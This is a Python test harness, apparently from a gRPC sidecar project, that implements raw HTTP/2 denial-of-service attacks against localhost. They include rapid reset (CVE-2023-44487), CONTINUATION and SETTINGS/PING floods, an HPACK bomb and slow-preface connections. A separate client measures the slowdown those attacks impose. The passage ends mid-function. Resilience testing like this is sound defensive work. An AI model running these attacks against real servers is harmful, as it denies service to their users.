"""Attacks on the sidecar's gRPC port, and a well-behaved client that says what they cost others.

Each attack is a raw HTTP/2 client (a socket, frames from hyperframe, header blocks from
hpack) doing one hostile thing, bounded in frames and seconds. It returns what it sent and what
it saw the server do: GOAWAY (when, last stream id, error code), RST_STREAM per stream,
responses, ACKs, window updates, and when the server closed the connection. The well-behaved
client is a network ext_proc stream on its own connection (h2), doing round trips in a process
of its own and timing them, so that a trial can say how much slower it was served during an
attack, and nothing of that is the attacker's own work.

    python -m bench.attacks --port PORT [--pid PID] [--full]

runs every attack against a running `hyperfilter serve` that has the `pass-through` plugin
(every plugin is also a chain of its own name), each again and again for a window of a second
or two (`--full`: a few seconds), and prints what each cost.
"""

from __future__ import annotations

import argparse
import contextlib
import ctypes
import multiprocessing
import socket
import threading
import time
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field
from multiprocessing.connection import Connection
from multiprocessing.synchronize import Event
from pathlib import Path
from typing import Generic, TypeVar

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from envoy.service.network_ext_proc.v3 import network_external_processor_pb2 as pb
from google.protobuf.message import DecodeError
from grpc_health.v1 import health_pb2
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hyperframe.exceptions import HyperframeError
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from bench.stats import percentile
from sidecar.network_ext_proc import METHOD

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
CHAIN = "pass-through"  # the chain attack streams and the well-behaved client name
MAX_WINDOW = (1 << 31) - 1
DEFAULT_FRAME = 16384  # what a peer may send before it hears otherwise (RFC 9113, 6.5.2)
DEFAULT_WINDOW = 65535
DEFAULT_TABLE = 4096
LINGER_SECONDS = 2.0  # how long an attack waits for the server's answer once it stops sending
ROUND_TRIP_TIMEOUT = 2.0  # a well-behaved round trip slower than this counts as failed
WELL_BEHAVED_PAUSE = 0.001  # between its round trips: a steady client, not a flood of its own
STARTUP_SECONDS = 20.0  # for the well-behaved client's process to start and make its baseline
STOP_SECONDS = 10.0  # for it to finish a round trip (or time out) and report
POLL_SECONDS = 0.005  # how often this process looks at its count of round trips

R = TypeVar("R")
R_co = TypeVar("R_co", covariant=True)  # Trial is frozen: a Trial[AttackResult] is a Trial[object]


# --- what the server did ------------------------------------------------------------------


@dataclass(frozen=True)
class GoAway:
    at: float  # seconds after connecting
    last_stream_id: int
    error_code: int

    @property
    def error(self) -> str:
        return error_name(self.error_code)


def error_name(code: int | None) -> str:
    if code is None:  # h2's events leave it optional
        return "no error code"
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


@dataclass
class ServerView:
    """What the server sent on one connection; times are seconds after connecting."""

    settings: dict[int, int] = field(default_factory=dict)  # its SETTINGS, merged
    settings_at: float | None = None  # when its first SETTINGS arrived
    settings_acks: int = 0
    ping_acks: int = 0
    goaway: GoAway | None = None
    resets: dict[int, int] = field(default_factory=dict)  # stream -> RST_STREAM error code
    reset_at: dict[int, float] = field(default_factory=dict)  # stream -> when it came
    headers: dict[int, list[dict[str, str]]] = field(default_factory=dict)  # decoded blocks
    ended: dict[int, float] = field(default_factory=dict)  # stream -> when END_STREAM came
    data: dict[int, int] = field(default_factory=dict)  # stream -> DATA bytes
    granted: dict[int, int] = field(default_factory=dict)  # stream (0: connection) -> increments
    frames: int = 0
    bytes: int = 0
    closed_at: float | None = None  # when the server closed or reset the connection
    undecodable: str | None = None  # a frame or header block of its that we could not read

    def answered(self, stream: int) -> bool:
        """Whether the server said anything about `stream`: a response or a reset."""
        return stream in self.resets or stream in self.headers or stream in self.ended

    def grpc_status(self, stream: int) -> int | None:
        for block in reversed(self.headers.get(stream, [])):
            if "grpc-status" in block:
                return int(block["grpc-status"])
        return None

    @property
    def stream_window(self) -> int:
        return self.settings.get(SettingCodes.INITIAL_WINDOW_SIZE, DEFAULT_WINDOW)

    @property
    def connection_window(self) -> int:
        return DEFAULT_WINDOW + self.granted.get(0, 0)

    @property
    def max_frame(self) -> int:
        return self.settings.get(SettingCodes.MAX_FRAME_SIZE, DEFAULT_FRAME)


@dataclass
class AttackResult:
    name: str
    frames_sent: int
    bytes_sent: int
    seconds: float  # from connecting until the attack stopped and let go of the connection
    blocked: bool  # a send did not complete in time: the server had stopped reading
    send_failed: bool  # the server closed the connection under a send
    server: ServerView
    streams: list[int] = field(default_factory=list)  # the streams the attack opened
    marks: dict[str, float] = field(default_factory=dict)  # its own moments, after connecting
    figures: dict[str, int] = field(default_factory=dict)  # its own numbers


# --- a raw connection -----------------------------------------------------------------------


def request_headers(path: str = METHOD) -> list[tuple[str, str]]:
    """A gRPC request as Envoy's ext_proc filter makes one."""
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", "sidecar"), ("content-type", "application/grpc"),
            ("te", "trailers"), ("x-hyperfilter-chain", CHAIN)]


def grpc_message(payload: bytes, declared: int | None = None) -> bytes:
    """A length-prefixed gRPC message; `declared` overrides the length it announces."""
    length = len(payload) if declared is None else declared
    return b"\0" + length.to_bytes(4, "big") + payload


def never_indexed(headers: Iterable[tuple[str, str]]) -> bytes:
    """A header block that leaves HPACK's dynamic table alone, whatever its state."""
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers],
                                  huffman=False)


def raw_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame hyperframe refuses to build (HEADERS on stream 0, say)."""
    return (len(payload).to_bytes(3, "big") + bytes((kind, flags))
            + stream.to_bytes(4, "big") + payload)


def headers(stream: int, block: bytes, end_stream: bool = False,
            end_headers: bool = True) -> bytes:
    flags = (["END_STREAM"] if end_stream else []) + (["END_HEADERS"] if end_headers else [])
    return HeadersFrame(stream, data=block, flags=flags).serialize()


def data(stream: int, payload: bytes, end_stream: bool = False) -> bytes:
    return DataFrame(stream, data=payload, flags=["END_STREAM"] if end_stream else []).serialize()


class AttackConnection:
    """A raw HTTP/2 client connection: sends what it is told, while a reader thread (unless
    `read` is False: a client that never reads) records what the server does."""

    def __init__(self, port: int, read: bool = True, send_timeout: float = 1.0,
                 receive_buffer: int | None = None) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer is not None:  # before connecting, so the window scale follows it
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.sock.settimeout(send_timeout)
        self.sock.connect(("127.0.0.1", port))
        self.started = time.monotonic()
        self.view = ServerView()
        self.encoder = hpack.Encoder()
        self.frames_sent = self.bytes_sent = 0
        self.blocked = self.send_failed = False
        self.marks: dict[str, float] = {}  # the attack's own moments, for its result
        self.figures: dict[str, int] = {}  # and its own numbers
        self._changed = threading.Condition()
        self._decoder = hpack.Decoder()
        self._block: tuple[int, bool, bytearray] | None = None  # stream, end_stream, so far
        self._letting_go = False
        self._reader = threading.Thread(target=self._read, daemon=True) if read else None
        if self._reader is not None:
            self._reader.start()

    def elapsed(self) -> float:
        return time.monotonic() - self.started

    # --- sending --------------------------------------------------------------------------

    def send(self, payload: bytes, frames: int = 1) -> bool:
        """Send whole; False once the server stopped reading (blocked) or went away."""
        if self.blocked or self.send_failed:
            return False
        try:
            self.sock.sendall(payload)
        except TimeoutError:
            self.blocked = True
            return False
        except OSError:
            self.send_failed = True
            return False
        self.frames_sent += frames
        self.bytes_sent += len(payload)
        return True

    def handshake(self, settings: Mapping[int, int] | None = None,
                  timeout: float = LINGER_SECONDS) -> bool:
        """The preface and our SETTINGS; with a reader, wait for the server's SETTINGS and
        acknowledge them. False when the server did not get that far."""
        if settings and SettingCodes.HEADER_TABLE_SIZE in settings:
            self._decoder.max_allowed_table_size = settings[SettingCodes.HEADER_TABLE_SIZE]
        if not self.send(PREFACE + SettingsFrame(0, settings=dict(settings or {})).serialize(),
                         frames=1):
            return False
        if self._reader is None:
            return True
        if not self.wait_until(lambda view: view.settings_at is not None, timeout):
            return False
        return self.send(SettingsFrame(0, flags=["ACK"]).serialize())

    def request(self, path: str = METHOD) -> bytes:
        """The header block of one more request, through this connection's encoder: the first
        one fills the dynamic table, the ones after are a few bytes of indices."""
        return self.encoder.encode(request_headers(path), huffman=False)

    # --- watching -------------------------------------------------------------------------

    def wait_until(self, done: Callable[[ServerView], bool], timeout: float) -> bool:
        """Wait for `done(view)`, or the server closing the connection, at most `timeout`."""
        with self._changed:
            return self._changed.wait_for(
                lambda: done(self.view) or self.view.closed_at is not None, timeout) \
                and done(self.view)

    def ended(self) -> bool:
        return self.view.goaway is not None or self.view.closed_at is not None \
            or self.send_failed

    def linger(self, seconds: float = LINGER_SECONDS) -> bool:
        """Wait for the server to close the connection; whether it did."""
        return self.wait_until(lambda view: view.closed_at is not None, seconds)

    def result(self, name: str, streams: Iterable[int] = ()) -> AttackResult:
        """Let go of the connection; what happened on it."""
        seconds = self.elapsed()
        self._letting_go = True
        with contextlib.suppress(OSError):  # unless the server already closed it
            self.sock.shutdown(socket.SHUT_RDWR)  # wakes the reader
        if self._reader is not None:
            self._reader.join()
        self.sock.close()
        return AttackResult(name, self.frames_sent, self.bytes_sent, seconds, self.blocked,
                            self.send_failed, self.view, list(streams), self.marks, self.figures)

    # --- the reader thread ----------------------------------------------------------------

    def _read(self) -> None:
        buffer = bytearray()
        while True:
            try:
                chunk = self.sock.recv(1 << 16)
            except TimeoutError:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                with self._changed:
                    if not self._letting_go:
                        self.view.closed_at = self.elapsed()
                    self._changed.notify_all()
                return
            buffer += chunk
            with self._changed:
                self.view.bytes += len(chunk)
                del buffer[:self._frames(buffer)]
                self._changed.notify_all()

    def _frames(self, buffer: bytearray) -> int:
        at = 0
        while len(buffer) - at >= 9:
            frame, length = Frame.parse_frame_header(memoryview(bytes(buffer[at:at + 9])))
            if len(buffer) - at - 9 < length:
                break
            try:
                frame.parse_body(memoryview(bytes(buffer[at + 9:at + 9 + length])))
            except HyperframeError as error:
                self.view.undecodable = f"{type(frame).__name__}: {error}"
            at += 9 + length
            self.view.frames += 1
            self._seen(frame)
        return at

    def _seen(self, frame: Frame) -> None:
        view, now, stream = self.view, self.elapsed(), frame.stream_id
        if isinstance(frame, SettingsFrame):
            if "ACK" in frame.flags:
                view.settings_acks += 1
            else:
                view.settings.update(frame.settings)
                if view.settings_at is None:
                    view.settings_at = now
        elif isinstance(frame, PingFrame):
            if "ACK" in frame.flags:
                view.ping_acks += 1
        elif isinstance(frame, GoAwayFrame):
            view.goaway = GoAway(now, frame.last_stream_id, frame.error_code)
        elif isinstance(frame, RstStreamFrame):
            view.resets[stream] = frame.error_code
            view.reset_at[stream] = now
        elif isinstance(frame, WindowUpdateFrame):
            view.granted[stream] = view.granted.get(stream, 0) + frame.window_increment
        elif isinstance(frame, DataFrame):
            view.data[stream] = view.data.get(stream, 0) + len(frame.data)
            if "END_STREAM" in frame.flags:
                view.ended[stream] = now
        elif isinstance(frame, HeadersFrame | ContinuationFrame):
            self._header_fragment(frame, now)

    def _header_fragment(self, frame: HeadersFrame | ContinuationFrame, now: float) -> None:
        if isinstance(frame, HeadersFrame):
            self._block = (frame.stream_id, "END_STREAM" in frame.flags, bytearray())
        if self._block is None:
            self.view.undecodable = "CONTINUATION without HEADERS"
            return
        stream, end_stream, block = self._block
        block += frame.data
        if "END_HEADERS" not in frame.flags:
            return
        self._block = None
        try:
            decoded = {str(k): str(v) for k, v in self._decoder.decode(bytes(block))}
        except hpack.HPACKError as error:
            self.view.undecodable = f"header block: {error}"
            decoded = {}
        self.view.headers.setdefault(stream, []).append(decoded)
        if end_stream:
            self.view.ended[stream] = now


# --- the attacks ----------------------------------------------------------------------------


def flood(conn: AttackConnection, frame: bytes, frames: int, deadline: float) -> int:
    """`frame` sent `frames` times, about 64 KiB a send, until the deadline or the server
    ends the connection; how many went out (the time of the last: mark "last_byte")."""
    per_send = max(1, (1 << 16) // len(frame))
    sent = 0
    while sent < frames and not conn.ended() and time.monotonic() < deadline:
        count = min(per_send, frames - sent)
        if not conn.send(frame * count, frames=count):
            break
        sent += count
    conn.marks["last_byte"] = conn.elapsed()
    return sent


def open_streams(conn: AttackConnection, count: int, seconds: float, batch: int,
                 reset: bool) -> list[int]:
    """Streams opened `batch` at a time (each reset at once with `reset`) until `count`,
    `seconds`, or the server ending the connection; the ids opened."""
    deadline = time.monotonic() + seconds
    opened: list[int] = []
    first, later = conn.request(), conn.request()
    while len(opened) < count and not conn.ended() and time.monotonic() < deadline:
        ids = range(2 * len(opened) + 1, 2 * min(count, len(opened) + batch), 2)
        chunk = b"".join(headers(s, first if s == 1 else later) + (
            RstStreamFrame(s, error_code=ErrorCodes.CANCEL).serialize() if reset else b"")
            for s in ids)
        if not conn.send(chunk, frames=(2 if reset else 1) * len(ids)):
            break
        opened.extend(ids)
    return opened


def rapid_reset(port: int, pairs: int = 2000, seconds: float = 5.0,
                batch: int = 100) -> AttackResult:
    """CVE-2023-44487: open a stream and reset it at once, again and again."""
    conn = AttackConnection(port)
    opened: list[int] = []
    if conn.handshake():
        opened = open_streams(conn, pairs, seconds, batch, reset=True)
        conn.linger()
    return conn.result("rapid reset", streams=opened)


def never_ended_streams(port: int, streams: int = 1100, seconds: float = 5.0,
                        hold: float = 1.0, batch: int = 100) -> AttackResult:
    """Open streams (HEADERS without END_STREAM), send nothing more, keep them open."""
    conn = AttackConnection(port)
    opened: list[int] = []
    if conn.handshake():
        opened = open_streams(conn, streams, seconds, batch, reset=False)
        conn.wait_until(lambda view: False, hold)  # what the server does with them
    return conn.result("never-ended streams", streams=opened)


def header_filler(size: int) -> bytes:
    """`size` bytes of header block: whole literal fields (never indexed), so a decoder that
    reads fragments as they come keeps finding valid headers."""
    name = "x-filler"
    value_length = max(0, size - len(never_indexed([(name, "")])))
    while value_length and len(never_indexed([(name, "a" * value_length)])) > size:
        value_length -= 1
    return never_indexed([(name, "a" * value_length)])


def continuation_flood(port: int, frame_size: int = 16, frames: int = 10_000,
                       seconds: float = 5.0) -> AttackResult:
    """One header block that never ends: HEADERS, then CONTINUATION after CONTINUATION of
    `frame_size` bytes each, never with END_HEADERS."""
    conn = AttackConnection(port)
    deadline = time.monotonic() + seconds
    if conn.handshake():
        conn.send(headers(1, conn.request(), end_stream=True, end_headers=False))
        one = ContinuationFrame(1, data=header_filler(frame_size)).serialize()
        sent = flood(conn, one, frames, deadline)
        conn.figures["continuations"] = sent
        conn.linger()
    return conn.result(f"CONTINUATION flood ({frame_size}-byte frames)", streams=[1])


def hpack_bomb(port: int, streams: int = 20, seconds: float = 5.0) -> AttackResult:
    """One dynamic-table entry as big as the table allows, then header blocks that are
    nothing but references to it: 1 byte each on the wire, a whole entry each decoded."""
    conn = AttackConnection(port)
    opened: list[int] = []
    if conn.handshake():
        # as big as the server's table allows, and small enough to leave room for references
        table = min(conn.view.settings.get(SettingCodes.HEADER_TABLE_SIZE, DEFAULT_TABLE),
                    DEFAULT_FRAME // 2)
        name = "x-bomb"
        entry = hpack.Encoder().encode([(name, "a" * (table - 32 - len(name)))], huffman=False)
        request = never_indexed(request_headers())
        room = min(conn.view.max_frame, DEFAULT_FRAME) - len(request) - len(entry)
        newest = b"\xbe"  # indexed field 62: the newest dynamic-table entry
        blocks = [request + entry + newest * room] + [request + newest * (room + len(entry))] * (
            streams - 1)
        opened = list(range(1, 2 * streams, 2))
        conn.figures["decoded_bytes_per_stream"] = (room + len(entry)) * table
        conn.send(b"".join(headers(s, block, end_stream=True)
                           for s, block in zip(opened, blocks, strict=True)), frames=streams)
        conn.marks["sent"] = conn.elapsed()
        conn.wait_until(lambda view: all(view.answered(s) for s in opened) or conn.ended(),
                        seconds)
        conn.marks["answered"] = conn.elapsed()
    return conn.result("HPACK bomb", streams=opened)


def long_hpack_integer(port: int, continuation_bytes: int = 256 << 10,
                       continuation: int = 0xFF, seconds: float = 5.0) -> AttackResult:
    """An indexed header field whose index goes on for `continuation_bytes` bytes (RFC 7541,
    5.1): 0xFF bytes make a number of a few million bits, 0x80 bytes one that stays 127."""
    conn = AttackConnection(port)
    deadline = time.monotonic() + seconds
    if conn.handshake():
        block = b"\xff" + bytes([continuation]) * continuation_bytes + b"\x7f"
        size = min(conn.view.max_frame, DEFAULT_FRAME)
        pieces = [block[at:at + size] for at in range(0, len(block), size)]
        for index, piece in enumerate(pieces):
            last = index == len(pieces) - 1
            frame = (headers(1, piece, end_stream=True, end_headers=last) if index == 0 else
                     ContinuationFrame(1, data=piece, flags=["END_HEADERS"] if last else [])
                     .serialize())
            if conn.ended() or time.monotonic() > deadline or not conn.send(frame):
                break
        conn.marks["last_byte"] = conn.elapsed()
        conn.linger()
    return conn.result(f"long HPACK integer (0x{continuation:02x} x {continuation_bytes})",
                       streams=[1])


def _control_flood(port: int, name: str, frame: bytes, frames: int, read: bool,
                   seconds: float, acks: Callable[[ServerView], int]) -> AttackResult:
    # A client that never reads also keeps its receive buffer small: the server's answers
    # back up sooner, as they would behind a slow network.
    conn = AttackConnection(port, read=read, receive_buffer=None if read else 1 << 14)
    deadline = time.monotonic() + seconds
    if conn.handshake():
        acks_before = acks(conn.view)
        sent = flood(conn, frame, frames, deadline)
        conn.figures["flood_frames"] = sent
        if read:
            conn.wait_until(lambda view: acks(view) - acks_before >= sent, LINGER_SECONDS)
            conn.figures["acks"] = acks(conn.view) - acks_before
    who = "reading" if read else "never reading"
    return conn.result(f"{name} flood ({who})")


def settings_flood(port: int, frames: int = 20_000, read: bool = True,
                   seconds: float = 3.0) -> AttackResult:
    """Empty SETTINGS frames, each of which the server must acknowledge."""
    return _control_flood(port, "SETTINGS", SettingsFrame(0).serialize(), frames, read, seconds,
                          lambda view: view.settings_acks)


def ping_flood(port: int, frames: int = 20_000, read: bool = True,
               seconds: float = 3.0) -> AttackResult:
    """PING frames, each of which the server must answer."""
    return _control_flood(port, "PING", PingFrame(0, opaque_data=b"attacker").serialize(),
                          frames, read, seconds, lambda view: view.ping_acks)


def window_update_overflow(port: int, on_stream: bool) -> AttackResult:
    """WINDOW_UPDATE that takes the server's send window to exactly 2^31-1 (allowed), then one
    byte past it (RFC 9113, 6.9.1: the connection, or the stream, is over)."""
    conn = AttackConnection(port)
    stream = 1 if on_stream else 0
    if conn.handshake():
        if on_stream:
            conn.send(headers(1, conn.request()))
        conn.send(WindowUpdateFrame(stream, window_increment=MAX_WINDOW - DEFAULT_WINDOW)
                  .serialize())
        conn.wait_until(lambda view: False, 0.3)  # nothing should come of that one
        conn.marks["past_max"] = conn.elapsed()
        conn.send(WindowUpdateFrame(stream, window_increment=1).serialize())
        conn.wait_until(lambda view: stream in view.resets or view.goaway is not None,
                        LINGER_SECONDS)
    where = "stream" if on_stream else "connection"
    return conn.result(f"WINDOW_UPDATE overflow ({where})", streams=[1] if on_stream else [])


def parked_messages(port: int, streams: int, declared: int) -> AttackResult:
    """Messages that never complete: on each of `streams` streams, a message declaring
    `declared` bytes and sending all but the last, in one burst that ignores every
    WINDOW_UPDATE (sent stream by stream, so that the attacker's own copies stay small: the
    tests measure the memory of the process they share with the server). Nothing of them can
    be handed on, so the server must hold them, or refuse."""
    conn = AttackConnection(port)
    opened: list[int] = []
    if conn.handshake():
        conn.wait_until(lambda view: 0 in view.granted, 0.2)  # its connection window, if any
        conn.figures.update(stream_window=conn.view.stream_window,
                            connection_window=conn.view.connection_window,
                            burst=streams * (declared + 4))
        opened = list(range(1, 2 * streams, 2))
        size = min(conn.view.max_frame, DEFAULT_FRAME)
        payload = grpc_message(b"", declared=declared) + bytes(declared - 1)
        granted = dict(conn.view.granted)
        for stream in opened:
            frames = [headers(stream, conn.request())] + [
                data(stream, payload[at:at + size]) for at in range(0, len(payload), size)]
            conn.send(b"".join(frames), frames=len(frames))
        conn.wait_until(lambda view: all(view.answered(s) for s in opened), LINGER_SECONDS)
        conn.figures["stream_granted_meanwhile"] = sum(
            conn.view.granted.get(s, 0) - granted.get(s, 0) for s in opened)
    return conn.result(f"{streams} parked messages of {declared} bytes", streams=opened)


BAD_STREAM_IDS = ("zero", "even", "reused", "decreasing")


def bad_stream_id(port: int, kind: str) -> AttackResult:
    """HEADERS on stream 0, on an even (server-side) id, on a stream that already ended, or on
    an id lower than one already opened (RFC 9113, 5.1.1)."""
    conn = AttackConnection(port)
    opened: list[int] = []
    if conn.handshake():
        block = never_indexed(request_headers())
        if kind == "zero":
            opened = [0]
            conn.send(raw_frame(0x1, 0x5, 0, block))  # END_STREAM | END_HEADERS
        elif kind == "even":
            opened = [2]
            conn.send(headers(2, block, end_stream=True))
        elif kind == "reused":
            opened = [1]
            conn.send(headers(1, block, end_stream=True))
            conn.wait_until(lambda view: 1 in view.ended or 1 in view.resets, LINGER_SECONDS)
            conn.figures["answers_before"] = len(conn.view.headers.get(1, []))
            conn.marks["reused"] = conn.elapsed()
            conn.send(headers(1, block, end_stream=True))
        elif kind == "decreasing":
            opened = [5, 3]
            conn.send(headers(5, block) + headers(3, block, end_stream=True))
        else:
            raise ValueError(f"not one of {BAD_STREAM_IDS}: {kind!r}")
        conn.wait_until(lambda view: view.goaway is not None, 1.0)
    return conn.result(f"bad stream id ({kind})", streams=opened)


def extreme_setting(port: int, setting: int, value: int) -> AttackResult:
    """One SETTINGS value at or past the edge of its range. If the server keeps the connection
    after acknowledging it, a health check on it shows whether it still serves."""
    conn = AttackConnection(port)
    if conn.handshake({setting: value}):
        conn.wait_until(lambda view: view.settings_acks > 0 or view.goaway is not None,
                        LINGER_SECONDS)
        if not conn.ended():
            health = grpc_message(health_pb2.HealthCheckRequest().SerializeToString())
            conn.send(headers(1, never_indexed(request_headers(HEALTH_CHECK)))
                      + data(1, health, end_stream=True), frames=2)
            conn.wait_until(lambda view: 1 in view.ended or 1 in view.resets, LINGER_SECONDS)
    return conn.result(f"extreme setting {setting_name(setting)}={value}", streams=[1])


def setting_name(code: int) -> str:
    try:
        return SettingCodes(code).name
    except ValueError:
        return f"0x{code:x}"


def huge_message_trickle(port: int, declared: int = (1 << 32) - 1, seconds: float = 2.0,
                         interval: float = 0.1) -> AttackResult:
    """A gRPC message announcing `declared` bytes, then its bytes one at a time."""
    conn = AttackConnection(port)
    if conn.handshake():
        conn.send(headers(1, conn.request()) + data(1, grpc_message(b"", declared=declared)),
                  frames=2)
        conn.marks["declared"] = conn.elapsed()
        deadline = time.monotonic() + seconds
        trickled = 0
        while time.monotonic() < deadline and not conn.ended():
            if conn.wait_until(lambda view: view.answered(1), interval) \
                    or not conn.send(data(1, b"\0")):
                break
            trickled += 1
        conn.figures["trickled"] = trickled
    return conn.result("4 GiB message, trickled", streams=[1])


def slow_preface(port: int, silent: int = 20, trickling: int = 5, interval: float = 0.5,
                 seconds: float = 12.0) -> list[AttackResult]:
    """Connections that send nothing (`silent` of them), and ones that send the preface and
    their first SETTINGS one byte per `interval` (`trickling`); each waits at most `seconds`
    for the server to close it."""
    quiet = [AttackConnection(port) for _ in range(silent)]
    slow = [AttackConnection(port) for _ in range(trickling)]
    opening = PREFACE + SettingsFrame(0).serialize()
    deadline = time.monotonic() + seconds
    for at in range(len(opening)):
        if time.monotonic() >= deadline or all(conn.ended() for conn in slow):
            break
        for conn in slow:
            if not conn.ended():
                conn.send(opening[at:at + 1])
        time.sleep(interval)
    for conn in quiet + slow:
        conn.wait_until(lambda view: False, max(0.0, deadline - time.monotonic()))
    return ([conn.result("slow preface (nothing)") for conn in quiet]
            + [conn.result(f"slow preface (a byte per {interval}s)") for conn in slow])


# --- the well-behaved client ----------------------------------------------------------------


class RoundTripFailed(Exception):
    pass


class ExtProcStream:
    """One network ext_proc stream on a connection of its own, as Envoy opens one per TCP
    connection: each round trip is the client's bytes there and the sidecar's answer back."""

    def __init__(self, port: int, timeout: float = ROUND_TRIP_TIMEOUT) -> None:
        self._timeout = timeout
        self._sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self._sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self._h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self._h2.initiate_connection()
        self._stream = self._h2.get_next_available_stream_id()
        self._h2.send_headers(self._stream, request_headers())
        self._sock.sendall(self._h2.data_to_send())
        self._received = bytearray()

    def round_trip(self, payload: bytes) -> float:
        """Seconds until the sidecar's answer came back; raises RoundTripFailed."""
        request = grpc_message(pb.ProcessingRequest(read_data=pb.Data(data=payload))
                               .SerializeToString())
        started = time.monotonic()
        deadline = started + self._timeout
        while self._h2.local_flow_control_window(self._stream) < len(request):
            self._receive(deadline)
        self._h2.send_data(self._stream, request)
        self._sock.sendall(self._h2.data_to_send())
        while (message := self._message()) is None:
            self._receive(deadline)
        latency = time.monotonic() - started
        try:
            answer = pb.ProcessingResponse.FromString(message).read_data.data
        except DecodeError:
            raise RoundTripFailed("not a ProcessingResponse") from None
        if answer != payload:
            raise RoundTripFailed(f"sent {payload!r}, got {answer!r} back")
        return latency

    def _message(self) -> bytes | None:
        if len(self._received) < 5:
            return None
        length = int.from_bytes(self._received[1:5], "big")
        if len(self._received) < 5 + length:
            return None
        message = bytes(self._received[5:5 + length])
        del self._received[:5 + length]
        return message

    def _receive(self, deadline: float) -> None:
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            raise RoundTripFailed(f"no answer within {self._timeout}s")
        self._sock.settimeout(remaining)
        try:
            chunk = self._sock.recv(1 << 16)
        except TimeoutError:
            raise RoundTripFailed(f"no answer within {self._timeout}s") from None
        if not chunk:
            raise RoundTripFailed("the server closed the connection")
        for event in self._h2.receive_data(chunk):
            if isinstance(event, h2.events.DataReceived):
                self._h2.acknowledge_received_data(event.flow_controlled_length,
                                                   event.stream_id)
                if event.stream_id == self._stream:
                    self._received += event.data
            elif isinstance(event, h2.events.StreamReset) and event.stream_id == self._stream:
                raise RoundTripFailed(f"stream reset: {error_name(event.error_code)}")
            elif isinstance(event, h2.events.TrailersReceived | h2.events.StreamEnded) \
                    and event.stream_id == self._stream:
                raise RoundTripFailed(f"the server ended the stream: "
                                      f"{getattr(event, 'headers', '')}")
            elif isinstance(event, h2.events.ConnectionTerminated):
                raise RoundTripFailed(f"GOAWAY {error_name(event.error_code)}")
        self._sock.sendall(self._h2.data_to_send())

    def close(self) -> None:
        """End the stream as Envoy does when its connection closes, then the connection."""
        with contextlib.suppress(OSError, h2.exceptions.H2Error):  # gone: nothing to end
            self._h2.end_stream(self._stream)
            self._sock.sendall(self._h2.data_to_send())
        self._sock.close()


FAILURES = (OSError, RoundTripFailed, h2.exceptions.H2Error)


class WellBehavedClient:
    """Round trips on one ext_proc stream, each timed, in a process of its own (spawned), so
    that the attacker's Python work in this process cannot delay them: only the server can. A
    failed round trip is recorded and the next one goes over a new connection. `served` counts
    the round trips as they succeed; their times (monotonic: one clock for every process) come
    back when the client stops, at the end of the `with` block. As with any spawned process, a
    script that uses it runs its work under `if __name__ == "__main__"`."""

    def __init__(self, port: int, pause: float = WELL_BEHAVED_PAUSE,
                 payload_size: int = 100) -> None:
        context = multiprocessing.get_context("spawn")
        self._served = context.RawValue(ctypes.c_uint64, 0)  # no lock: only the client writes
        self._stop = context.Event()
        self._results, self._results_sender = context.Pipe(duplex=False)
        self._process = context.Process(
            target=round_trips_until_stopped, name="well-behaved client", daemon=True,
            args=(port, pause, payload_size, self._stop, self._served, self._results_sender))
        self.samples: list[tuple[float, float]] = []  # (started, ended), monotonic seconds
        self.failures: list[tuple[float, str]] = []

    def __enter__(self) -> WellBehavedClient:
        self._process.start()
        self._results_sender.close()  # the client's copy alone: its exit ends the pipe
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        try:
            if not self._results.poll(STOP_SECONDS):
                raise RuntimeError(f"the well-behaved client did not stop in {STOP_SECONDS}s")
            self.samples, self.failures = self._results.recv()
        except EOFError:
            raise RuntimeError("the well-behaved client exited with "
                               f"{self._process.exitcode} before reporting") from None
        finally:
            self._process.join(STOP_SECONDS)
            if self._process.is_alive():
                self._process.kill()
            self._results.close()

    @property
    def served(self) -> int:
        """Round trips that succeeded so far."""
        return self._served.value

    def wait_for_round_trips(self, count: int, timeout: float) -> bool:
        """Wait until `count` more round trips succeeded than so far."""
        target = self.served + count
        deadline = time.monotonic() + timeout
        while self.served < target:
            if time.monotonic() > deadline or not self._process.is_alive():
                return False
            time.sleep(POLL_SECONDS)
        return True

    def latencies(self, since: float = 0.0, until: float = float("inf")) -> list[float]:
        """Seconds each round trip took that overlapped [since, until] (once stopped)."""
        return [end - start for start, end in self.samples if end >= since and start <= until]


def round_trips_until_stopped(port: int, pause: float, payload_size: int, stop: Event,
                              served: ctypes.c_uint64, results: Connection) -> None:
    """The well-behaved client's process: timed round trips, `pause` apart, until `stop`;
    then their times and failures through `results`. It ends with its parent, too."""
    parent = multiprocessing.parent_process()
    samples: list[tuple[float, float]] = []
    failures: list[tuple[float, str]] = []
    stream: ExtProcStream | None = None
    count = 0
    while not stop.is_set():
        if parent is not None and not parent.is_alive():
            return  # killed: nobody to report to
        payload = (b"round trip %d " % count).ljust(payload_size, b".")
        count += 1
        started = time.monotonic()
        try:
            stream = stream or ExtProcStream(port)
            started = time.monotonic()  # a new connection's handshake is not the round trip
            latency = stream.round_trip(payload)
            samples.append((started, started + latency))
            served.value += 1
        except FAILURES as error:
            failures.append((started, f"{type(error).__name__}: {error}"))
            if stream is not None:
                stream.close()
                stream = None
        stop.wait(pause)
    if stream is not None:
        stream.close()
    results.send((samples, failures))
    results.close()


def new_connection_refused(port: int, round_trips: int = 3) -> str | None:
